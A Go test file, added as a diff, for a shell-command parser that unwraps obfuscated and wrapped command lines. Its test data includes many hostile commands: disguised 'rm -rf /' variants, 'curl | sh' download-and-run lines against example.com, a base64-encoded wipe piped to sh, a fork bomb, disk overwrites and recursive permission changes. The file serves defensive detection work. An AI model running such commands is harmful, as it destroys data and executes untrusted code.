@@ -1,0 +1,343 @@
+package shell
+
+import (
+	"context"
+	"slices"
+	"testing"
+
+	"github.com/hookhost/hookhost/stdlib"
+)
+
+// want is one expected command; build it with c and refine it with the
+// methods below.
+type want struct {
+	argv      []string
+	wrappedBy []string
+	dynamic   bool
+	slot      []int // pipeline, position; nil: not checked
+}
+
+func c(argv ...string) want { return want{argv: argv} }
+
+func (w want) by(wrappers ...string) want { w.wrappedBy = wrappers; return w }
+func (w want) dyn() want                  { w.dynamic = true; return w }
+func (w want) at(pipe, pos int) want      { w.slot = []int{pipe, pos}; return w }
+
+// parseCases are real-world command lines: obfuscated destructive ones
+// that must come back as what they run, look-alikes whose danger is only
+// data, and ordinary ones. FuzzParse is seeded with them.
+var parseCases = []struct {
+	line string
+	want []want
+}{
+	// Destructive commands, however they are spelled.
+	{`rm -rf /`, []want{c("rm", "-rf", "/").at(0, 0)}},
+	{`rm -r -f /`, []want{c("rm", "-r", "-f", "/")}},
+	{`rm / -rf`, []want{c("rm", "/", "-rf")}},
+	{`r\m -rf /`, []want{c("rm", "-rf", "/")}},
+	{`"rm" -rf /`, []want{c("rm", "-rf", "/")}},
+	{`'r'm -rf /`, []want{c("rm", "-rf", "/")}},
+	{`r""m -rf /`, []want{c("rm", "-rf", "/")}},
+	{`\rm -rf /`, []want{c("rm", "-rf", "/")}},
+	{`/bin/rm -rf /`, []want{c("/bin/rm", "-rf", "/")}},
+	{`$'\x72\x6d' -rf /`, []want{c("rm", "-rf", "/")}},
+	{`$'\162m' -rf $'\057'`, []want{c("rm", "-rf", "/")}},
+	{`r{m,} -rf /`, []want{c("rm", "r", "-rf", "/")}},
+	{`{rm,-rf,/}`, []want{c("rm", "-rf", "/")}},
+	{"rm -rf \\\n /", []want{c("rm", "-rf", "/")}},
+	{`rm -rf / --no-preserve-root`, []want{c("rm", "-rf", "/", "--no-preserve-root")}},
+	{`rm -rf ~`, []want{c("rm", "-rf", "~").dyn()}},
+	{`rm -rf $HOME`, []want{c("rm", "-rf", "$HOME").dyn()}},
+	{`rm -rf "$DIR"/`, []want{c("rm", "-rf", `"$DIR"/`).dyn()}},
+	{`rm -rf *`, []want{c("rm", "-rf", "*").dyn()}},
+	{`rm -rf '*'`, []want{c("rm", "-rf", "*")}},
+	{`$(echo rm) -rf /`, []want{c("$(echo rm)", "-rf", "/").dyn(), c("echo", "rm")}},
+	{"`echo rm` -rf /", []want{c("`echo rm`", "-rf", "/").dyn(), c("echo", "rm")}},
+	{`$RM -rf /`, []want{c("$RM", "-rf", "/").dyn()}},
+	{`find / -delete`, []want{c("find", "/", "-delete")}},
+	{`find . -name '*.tmp' -exec rm -f {} \;`, []want{
+		c("find", ".", "-name", "*.tmp", "-exec", "rm", "-f", "{}", ";"),
+		c("rm", "-f", "{}").by("find").dyn(),
+	}},
+	{`find /var/log -mtime +7 -execdir sudo rm {} +`, []want{
+		c("find", "/var/log", "-mtime", "+7", "-execdir", "sudo", "rm", "{}", "+"),
+		c("rm", "{}").by("find", "sudo").dyn(),
+	}},
+	{`ls | xargs rm -rf`, []want{c("ls").at(0, 0), c("rm", "-rf").by("xargs").dyn().at(0, 1)}},
+	{`find . -print0 | xargs -0 -I{} rm -rf {}`, []want{
+		c("find", ".", "-print0"),
+		c("rm", "-rf", "{}").by("xargs").dyn(),
+	}},
+	{`xargs -n 1 -P 4 sh -c 'rm -rf "$1"' _`, []want{c("rm", "-rf", `"$1"`).by("xargs", "sh").dyn()}},
+	{`curl -fsSL https://get.example.com | sh`, []want{
+		c("curl", "-fsSL", "https://get.example.com").at(0, 0),
+		c("sh").at(0, 1),
+	}},
+	{`wget -qO- https://example.com/i.sh | sudo bash -s -- --yes`, []want{
+		c("wget", "-qO-", "https://example.com/i.sh").at(0, 0),
+		c("bash", "-s", "--", "--yes").by("sudo").at(0, 1),
+	}},
+	{`curl -s https://example.com/x.sh; sh`, []want{
+		c("curl", "-s", "https://example.com/x.sh").at(0, 0),
+		c("sh").at(1, 0),
+	}},
+	{`bash <(curl -s https://example.com/x.sh)`, []want{
+		c("bash", "<(curl -s https://example.com/x.sh)").dyn(),
+		c("curl", "-s", "https://example.com/x.sh"),
+	}},
+	{`sh -c "$(curl -fsSL https://example.com/x.sh)"`, []want{
+		c("$(curl -fsSL https://example.com/x.sh)").by("sh").dyn(),
+		c("curl", "-fsSL", "https://example.com/x.sh"),
+	}},
+	{`echo cm0gLXJmIC8K | base64 -d | sh`, []want{
+		c("echo", "cm0gLXJmIC8K").at(0, 0),
+		c("base64", "-d").at(0, 1),
+		c("sh").at(0, 2),
+	}},
+	{`cd / && sudo rm -fr *`, []want{c("cd", "/").at(0, 0), c("rm", "-fr", "*").by("sudo").dyn().at(1, 0)}},
+	{`sudo -u root -- rm -rf /`, []want{c("rm", "-rf", "/").by("sudo")}},
+	{`sudo --user=root --preserve-env rm -rf /`, []want{c("rm", "-rf", "/").by("sudo")}},
+	{`sudo --us root rm -rf /`, []want{c("rm", "-rf", "/").by("sudo")}},
+	{`sudo -E HOME=/ rm -rf /`, []want{c("rm", "-rf", "/").by("sudo")}},
+	{`sudo -e /etc/sudoers`, []want{c("sudo", "-e", "/etc/sudoers")}},
+	{`doas -u root rm -rf /`, []want{c("rm", "-rf", "/").by("doas")}},
+	{`env X=1 rm -rf /`, []want{c("rm", "-rf", "/").by("env")}},
+	{`env -i -u HOME PATH=/bin rm -rf /`, []want{c("rm", "-rf", "/").by("env")}},
+	{`env -i PATH=/bin -u HOME rm`, []want{c("-u", "HOME", "rm").by("env")}}, // env stops at NAME=VALUE
+	{`env -S 'rm -rf' /`, []want{c("rm", "-rf", "/").by("env")}},
+	{`timeout -s KILL 5 rm -rf /`, []want{c("rm", "-rf", "/").by("timeout")}},
+	{`timeout --sig KILL -k 1m 5s rm -rf /`, []want{c("rm", "-rf", "/").by("timeout")}},
+	{`nice -n 5 rm -rf /`, []want{c("rm", "-rf", "/").by("nice")}},
+	{`nice -5 ionice -c3 rm -rf /`, []want{c("rm", "-rf", "/").by("nice", "ionice")}},
+	{`nohup rm -rf / &`, []want{c("rm", "-rf", "/").by("nohup")}},
+	{`time rm -rf /`, []want{c("rm", "-rf", "/").by("time")}},
+	{`/usr/bin/time -f %e -o t.log rm -rf /`, []want{c("rm", "-rf", "/").by("time")}},
+	{`command rm -rf /`, []want{c("rm", "-rf", "/").by("command")}},
+	{`command -v rm`, []want{c("command", "-v", "rm")}},
+	{`exec -a x rm -rf /`, []want{c("rm", "-rf", "/").by("exec")}},
+	{`builtin eval 'rm -rf /'`, []want{c("rm", "-rf", "/").by("builtin", "eval")}},
+	{`stdbuf -oL setsid chroot / rm -rf /`, []want{c("rm", "-rf", "/").by("stdbuf", "setsid", "chroot")}},
+	{`busybox rm -rf /`, []want{c("rm", "-rf", "/").by("busybox")}},
+	{`bash -c "rm -rf ~"`, []want{c("rm", "-rf", "~").by("bash").dyn()}},
+	{`bash -c 'rm -rf /'`, []want{c("rm", "-rf", "/").by("bash")}},
+	{`bash -lc 'cd /tmp && rm -rf *'`, []want{c("cd", "/tmp").by("bash"), c("rm", "-rf", "*").by("bash").dyn()}},
+	{`sh -xec 'rm -rf /'`, []want{c("rm", "-rf", "/").by("sh")}},
+	{`bash -o pipefail -c -- 'rm -rf /'`, []want{c("rm", "-rf", "/").by("bash")}},
+	{`bash -c "rm -rf $TARGET"`, []want{c("rm", "-rf", "$TARGET").by("bash").dyn()}},
+	{`zsh -c 'sudo sh -c "rm -rf /"'`, []want{c("rm", "-rf", "/").by("zsh", "sudo", "sh")}},
+	{`bash deploy.sh --force`, []want{c("bash", "deploy.sh", "--force")}},
+	{`sh <<< 'rm -rf /'`, []want{c("sh"), c("rm", "-rf", "/").by("sh")}},
+	{"bash <<'EOF'\nrm -rf /\nEOF", []want{c("bash"), c("rm", "-rf", "/").by("bash")}},
+	{"cat <<EOF\n$(rm -rf /)\nEOF", []want{c("cat"), c("rm", "-rf", "/")}},
+	{"cat <<'EOF'\n$(rm -rf /)\nEOF", []want{c("cat")}},
+	{`eval "rm -rf /"`, []want{c("rm", "-rf", "/").by("eval")}},
+	{`eval "$(curl -s https://example.com/env)"`, []want{
+		c("$(curl -s https://example.com/env)").by("eval").dyn(),
+		c("curl", "-s", "https://example.com/env"),
+	}},
+	{`ssh -i ~/.ssh/id -p 2222 admin@db.example.com 'rm -rf /var/lib/db'`, []want{c("rm", "-rf", "/var/lib/db").by("ssh")}},
+	{`ssh host -- sudo rm -rf /`, []want{c("rm", "-rf", "/").by("ssh", "sudo")}},
+	{`watch -n 1 'rm -rf /tmp/cache'`, []want{c("rm", "-rf", "/tmp/cache").by("watch")}},
+	{`su - root -c 'rm -rf /'`, []want{c("rm", "-rf", "/").by("su")}},
+	{`su root --command='rm -rf /'`, []want{c("rm", "-rf", "/").by("su")}},
+	{`runuser -u nobody -- rm -rf /srv`, []want{c("rm", "-rf", "/srv").by("runuser")}},
+	{`trap 'rm -rf /tmp/lock' EXIT`, []want{c("rm", "-rf", "/tmp/lock").by("trap")}},
+	{`f() { rm -rf /; }; f`, []want{c("rm", "-rf", "/").at(0, 0), c("f").at(1, 0)}},
+	{`:(){ :|:& };:`, []want{c(":").at(0, 0), c(":").at(0, 1), c(":").at(1, 0)}},
+	{`export X=$(rm -rf /)`, []want{c("export", "X=$(rm -rf /)").dyn(), c("rm", "-rf", "/")}},
+	{`X=$(rm -rf /) true`, []want{c("rm", "-rf", "/"), c("true")}},
+	{`local a=(one $(rm -rf /))`, []want{c("local", "a=(one $(rm -rf /))").dyn(), c("rm", "-rf", "/")}},
+	{`echo ${X:-$(rm -rf /)}`, []want{c("echo", "${X:-$(rm -rf /)}").dyn(), c("rm", "-rf", "/")}},
+	{`[[ $(rm -rf /) ]] && echo ok`, []want{c("rm", "-rf", "/"), c("echo", "ok")}},
+	{`(( $(rm -rf /) ))`, []want{c("rm", "-rf", "/")}},
+	{`diff <(ls a) <(ls b)`, []want{c("diff", "<(ls a)", "<(ls b)").dyn(), c("ls", "a"), c("ls", "b")}},
+	{`! rm -rf / &`, []want{c("rm", "-rf", "/")}},
+	{`coproc rm -rf /`, []want{c("rm", "-rf", "/")}},
+	{`coproc worker { rm -rf /; }`, []want{c("rm", "-rf", "/")}},
+	{`{ rm -rf /; } 2>/dev/null`, []want{c("rm", "-rf", "/")}},
+	{`(cd / && rm -rf *)`, []want{c("cd", "/"), c("rm", "-rf", "*").dyn()}},
+	{`if [ -d /x ]; then rm -rf /x; else mkdir /x; fi`, []want{c("[", "-d", "/x", "]"), c("rm", "-rf", "/x"), c("mkdir", "/x")}},
+	{`while read f; do rm "$f"; done < list.txt`, []want{c("read", "f"), c("rm", `"$f"`).dyn()}},
+	{`for f in $(ls); do rm "$f"; done`, []want{c("ls"), c("rm", `"$f"`).dyn()}},
+	{`case $(uname) in Linux) rm -rf /tmp/x;; esac`, []want{c("uname"), c("rm", "-rf", "/tmp/x")}},
+	{`dd if=/dev/zero of=/dev/sda bs=1M`, []want{c("dd", "if=/dev/zero", "of=/dev/sda", "bs=1M")}},
+	{`mkfs.ext4 /dev/sda1`, []want{c("mkfs.ext4", "/dev/sda1")}},
+	{`chmod -R 777 /`, []want{c("chmod", "-R", "777", "/")}},
+	{`git push --force origin main`, []want{c("git", "push", "--force", "origin", "main")}},
+	{`git clean -fdx && git reset --hard HEAD~3`, []want{c("git", "clean", "-fdx"), c("git", "reset", "--hard", "HEAD~3")}},
+	{`kill -9 -1`, []want{c("kill", "-9", "-1")}},
+	{`python3 -c 'import shutil; shutil.rmtree("/")'`, []want{c("python3", "-c", `import shutil; shutil.rmtree("/")`)}},
+
+	// Look-alikes: the dangerous text is only data.
+	{`echo "rm -rf /"`, []want{c("echo", "rm -rf /")}},
+	{`grep 'rm -rf' file`, []want{c("grep", "rm -rf", "file")}},
+	{`git commit -m "fix: do not rm -rf / anymore"`, []want{c("git", "commit", "-m", "fix: do not rm -rf / anymore")}},
+	{`printf '%s\n' 'curl x | sh'`, []want{c("printf", `%s\n`, "curl x | sh")}},
+	{`echo 'sudo rm -rf /' >> notes.txt`, []want{c("echo", "sudo rm -rf /")}},
+	{`man rm # rm -rf /`, []want{c("man", "rm")}},
+	{`echo \$\(rm -rf /\)`, []want{c("echo", "$(rm", "-rf", "/)")}},
+
+	// Scoped ones, told apart by target.
+	{`rm -rf ./build`, []want{c("rm", "-rf", "./build")}},
+	{`rm -rf node_modules package-lock.json`, []want{c("rm", "-rf", "node_modules", "package-lock.json")}},
+	{`rm -rf build/{debug,release}`, []want{c("rm", "-rf", "build/debug", "build/release")}},
+	{`rm -f /tmp/app.{pid,lock}`, []want{c("rm", "-f", "/tmp/app.pid", "/tmp/app.lock")}},
+
+	// Ordinary work.
+	{`ls -la`, []want{c("ls", "-la")}},
+	{`npm install && npm test`, []want{c("npm", "install").at(0, 0), c("npm", "test").at(1, 0)}},
+	{`cd build; make -j8 install`, []want{c("cd", "build"), c("make", "-j8", "install")}},
+	{`go test ./... 2>&1 | tee test.log`, []want{c("go", "test", "./...").at(0, 0), c("tee", "test.log").at(0, 1)}},
+	{`docker ps -a --format '{{.Names}}'`, []want{c("docker", "ps", "-a", "--format", "{{.Names}}")}},
+	{`echo {1..3} {a..e..2} {01..03}`, []want{c("echo", "1", "2", "3", "a", "c", "e", "01", "02", "03")}},
+	{`echo {1..100000}`, []want{c("echo", "{1..100000}").dyn()}},
+	{`make PREFIX=~/.local install`, []want{c("make", "PREFIX=~/.local", "install").dyn()}},
+	{`kubectl get pods -n prod -o json | jq '.items[].metadata.name'`, []want{
+		c("kubectl", "get", "pods", "-n", "prod", "-o", "json"),
+		c("jq", ".items[].metadata.name"),
+	}},
+	{`X=1`, []want{}},
+	{``, []want{}},
+	{`# only a comment`, []want{}},
+}
+
+func TestParse(t *testing.T) {
+	for _, tc := range parseCases {
+		got, err := Parse(context.Background(), tc.line)
+		if err != nil {
+			t.Errorf("Parse(%q): %v", tc.line, err)
+			continue
+		}
+		if !matches(got, tc.want) {
+			t.Errorf("Parse(%q):\n got %v\nwant %v", tc.line, got, tc.want)
+		}
+		checkInvariants(t, tc.line, got)
+	}
+}
+
+func matches(got []Command, want []want) bool {
+	if len(got) != len(want) {
+		return false
+	}
+	for i, w := range want {
+		g := got[i]
+		if !slices.Equal(g.Argv, w.argv) || !slices.Equal(g.WrappedBy, or0(w.wrappedBy)) || g.Dynamic != w.dynamic {
+			return false
+		}
+		if w.slot != nil && (g.Pipeline != w.slot[0] || g.Position != w.slot[1]) {
+			return false
+		}
+	}
+	return true
+}
+
+func or0(s []string) []string {
+	if s == nil {
+		return []string{}
+	}
+	return s
+}
+
+// checkInvariants checks what holds for every parse: names are base
+// names, slices are non-nil, values are neutral, and pipeline numbers
+// run from 0 without gaps in order of first appearance.
+func checkInvariants(t *testing.T, line string, cmds []Command) {
+	t.Helper()
+	next := 0
+	for _, cmd := range cmds {
+		if len(cmd.Argv) == 0 || cmd.WrappedBy == nil || cmd.Redirects == nil {
+			t.Errorf("Parse(%q): malformed %v", line, cmd)
+		}
+		if cmd.Pipeline > next || cmd.Position < 0 {
+			t.Errorf("Parse(%q): %v numbered out of order", line, cmd)
+		}
+		if cmd.Pipeline == next {
+			next++
+		}
+		if err := stdlib.Check(cmd.Value()); err != nil {
+			t.Errorf("Parse(%q): %v", line, err)
+		}
+	}
+}
+
+func TestParseNames(t *testing.T) {
+	for line, name := range map[string]string{
+		`/usr/local/bin/rm x`: "rm",
+		`./run.sh`:            "run.sh",
+		`$HOME/bin/rm -rf /`:  "rm",
+		`"$RM" x`:             `"$RM"`,
+		`$(which rm) x`:       "$(which rm)",
+		`"" x`:                "",
+	} {
+		cmds, err := Parse(context.Background(), line)
+		if err != nil || len(cmds) == 0 || cmds[0].Name != name {
+			t.Errorf("Parse(%q) = %v, %v; want first command named %q", line, cmds, err, name)
+		}
+	}
+}
+
+func TestParseRedirects(t *testing.T) {
+	tests := []struct {
+		line string
+		want []Redirect
+	}{
+		{`echo x > /etc/passwd`, []Redirect{{">", 1, "/etc/passwd"}}},
+		{`echo x >> ~/.bashrc 2>&1`, []Redirect{{">>", 1, "~/.bashrc"}, {">&", 2, "1"}}},
+		{`cmd < in.txt &> all.log`, []Redirect{{"<", 0, "in.txt"}, {"&>", 1, "all.log"}}},
+		{`exec {fd}> lock`, []Redirect{{">", -1, "lock"}}},
+		{"cat <<-EOF > out\n\tbody $X\nEOF", []Redirect{{"<<-", 0, "body $X\n"}, {">", 1, "out"}}},
+		{`grep x <<< "$DATA"`, []Redirect{{"<<<", 0, `"$DATA"`}}},
+		{`{ cat; } > out`, []Redirect{{">", 1, "out"}}},
+		{`sudo tee /etc/hosts > /dev/null`, []Redirect{{">", 1, "/dev/null"}}},
+	}
+	for _, tc := range tests {
+		cmds, err := Parse(context.Background(), tc.line)
+		if err != nil || len(cmds) == 0 || !slices.Equal(cmds[0].Redirects, tc.want) {
+			t.Errorf("Parse(%q) = %v, %v; want redirects %v", tc.line, cmds, err, tc.want)
+		}
+	}
+}
+
+func TestParseRedirectDynamic(t *testing.T) {
+	for line, dyn := range map[string]bool{
+		`echo hi > $LOG`:           true,
+		`echo hi > out.txt`:        false,
+		`cat <<< "$X"`:             false, // a here-string is data
+		`{ echo hi; } > "$F"`:      true,
+		"cat <<EOF\n$HOME\nEOF":    false, // so is a here-document
+		`bash -c 'echo hi' > $OUT`: true,
+	} {
+		cmds, err := Parse(context.Background(), line)
+		if err != nil || len(cmds) != 1 || cmds[0].Dynamic != dyn {
+			t.Errorf("Parse(%q) = %v, %v; want dynamic %v", line, cmds, err, dyn)
+		}
+	}
+}
+
+// TestParsePipelines checks how compound commands and nested scripts
+// share or start pipelines.
+func TestParsePipelines(t *testing.T) {
+	tests := []struct {
+		line string
+		want [][2]int
+	}{
+		{`a | b | c`, [][2]int{{0, 0}, {0, 1}, {0, 2}}},
+		{`a && b | c; d`, [][2]int{{0, 0}, {1, 0}, {1, 1}, {2, 0}}},
+		{`curl x | (cd /tmp; sh)`, [][2]int{{0, 0}, {0, 1}, {0, 1}}},
+		{`curl x | bash -c 'cat; sh'`, [][2]int{{0, 0}, {0, 1}, {0, 1}}},
+		{`bash -c 'curl x | sh'`, [][2]int{{0, 0}, {0, 1}}},
+		{`(curl x | sh) | tee log`, [][2]int{{0, 0}, {0, 1}, {1, 1}}},
+		{`echo $(a | b) | c`, [][2]int{{0, 0}, {1, 0}, {1, 1}, {0, 1}}},
+		{`time curl x | sh`, [][2]int{{0, 0}, {0, 1}}},
+	}
+	for _, tc := range tests {
+		cmds, err := Parse(context.Background(), tc.line)
+		var got [][2]int
+		for _, c := range cmds {
+			got = append(got, [2]int{c.Pipeline, c.Position})
+		}
+		if err != nil || !slices.Equal(got, tc.want) {
+			t.Errorf("Parse(%q) = %v, %v; want slots %v", tc.line, cmds, err, tc.want)
+		}
+	}
+}
